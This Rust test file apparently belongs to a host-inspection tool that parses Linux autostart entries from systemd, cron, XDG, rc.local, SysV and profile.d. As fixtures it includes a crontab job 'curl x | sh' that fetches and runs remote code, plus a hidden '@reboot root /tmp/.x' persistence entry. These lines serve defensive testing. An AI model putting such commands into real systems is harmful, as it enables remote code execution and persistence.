use proptest::prelude::*;

use super::*;

fn read(records: &str) -> (Vec<AutostartEntry>, ArtifactStatus) {
    let output = format!("\0PEERHOUND-1\0{records}end\0\0");
    let (Parsed::Autostart(rows), tally) =
        parse(&mut output.as_bytes(), &Facts::default(), &Limits::default()).unwrap()
    else {
        panic!("another kind")
    };
    (rows, tally.settle().0)
}

fn entry(mechanism: &str, path: &str, content: &str) -> String {
    format!("entry\0{mechanism}\0path\0{path}\0target\0\0content\0{content}\0")
}

#[test]
fn every_mechanism() {
    let unit = "[Service]\nExecStart=/usr/bin/qbittorrent-nox\nUser=alice\n";
    let records = [
        entry("systemd_enabled", "/etc/systemd/system/multi-user.target.wants/qb.service", unit),
        entry("systemd_unit", "/etc/systemd/system/qb.service", unit),
        entry("systemd_unit", "/etc/systemd/system/off.service", unit),
        entry("crontab", "/etc/cron.d/x", "SHELL=/bin/sh\n@reboot root /tmp/.x\n"),
        entry("user_crontab", "/var/spool/cron/crontabs/bob", "* * * * * curl x | sh\n"),
        entry("xdg", "/home/a/.config/autostart/t.desktop", "[Desktop Entry]\nExec=transmission-gtk\nHidden=true\n"),
        "entry\0rc_local\0path\0/etc/rc.local\0target\0\0executable\x001\0content\0#!/bin/sh\n/opt/x &\nexit 0\n\0".into(),
        "entry\0sysv\0path\0/etc/rc2.d/S01x\0target\0../init.d/x\n\0content\0\0".into(),
        entry("profile", "/etc/profile.d/x.sh", ""),
    ];
    let (rows, status) = read(&records.concat());
    assert_eq!(status, ArtifactStatus::Ok);
    let seen: Vec<_> = rows
        .iter()
        .map(|r| (r.mechanism.as_str(), r.name.as_str(), r.command.as_deref(), r.user.as_deref(), r.enabled))
        .collect();
    assert_eq!(
        seen,
        [
            ("systemd", "qb.service", Some("/usr/bin/qbittorrent-nox"), Some("alice"), Some(true)),
            ("systemd", "off.service", Some("/usr/bin/qbittorrent-nox"), Some("alice"), Some(false)),
            ("cron", "@reboot", Some("/tmp/.x"), Some("root"), Some(true)),
            ("cron", "* * * * *", Some("curl x | sh"), Some("bob"), Some(true)),
            ("xdg", "t.desktop", Some("transmission-gtk"), None, Some(false)),
            ("rc_local", "rc.local", Some("/opt/x &"), Some("root"), Some(true)),
            ("sysv", "S01x", Some("../init.d/x"), None, Some(true)),
            ("profile", "x.sh", None, None, Some(true)),
        ]
    );
}

#[test]
fn what_is_closed_to_the_account_is_partial() {
    let (_, status) = read("closed\0/var/spool/cron/crontabs\0");
    assert_eq!(status, ArtifactStatus::Partial);
}

#[test]
fn a_file_cannot_forge_an_entry() {
    let (rows, _) =
        read(&entry("xdg", "/h/a\nentry\nsystemd.desktop", "[Desktop Entry]\nExec=x\nentry\nrc_local\n"));
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].mechanism, "xdg");
}

proptest! {
    #[test]
    fn any_file_is_read(mechanism in 0usize..8, content: String) {
        const ALL: [&str; 8] = ["systemd_enabled", "systemd_unit", "crontab", "user_crontab", "xdg", "rc_local", "sysv", "profile"];
        read(&entry(ALL[mechanism], "/etc/x", &content));
    }
}

#[test]
fn a_long_path_is_not_repeated_at_each_job_in_full() {
    let jobs = "@reboot a-very-long-account-name-that-is-none x\n".repeat(3);
    let records = entry("crontab", &format!("/etc/cron.d/{}", "a".repeat(100_000)), &jobs);
    let (rows, status) = read(&records);
    assert_eq!((rows.len(), status), (3, ArtifactStatus::Truncated));
    assert!(rows.iter().all(|row| row.location.len() <= PATH_CAP + 3), "{}", rows[0].location.len());

    let account = format!("@reboot {} x\n", "u".repeat(10_000));
    let (rows, _) = read(&entry("crontab", "/etc/cron.d/x", &account));
    assert!(rows[0].user.as_ref().is_some_and(|user| user.len() <= NAME_CAP + 3), "{:?}", rows[0]);
}
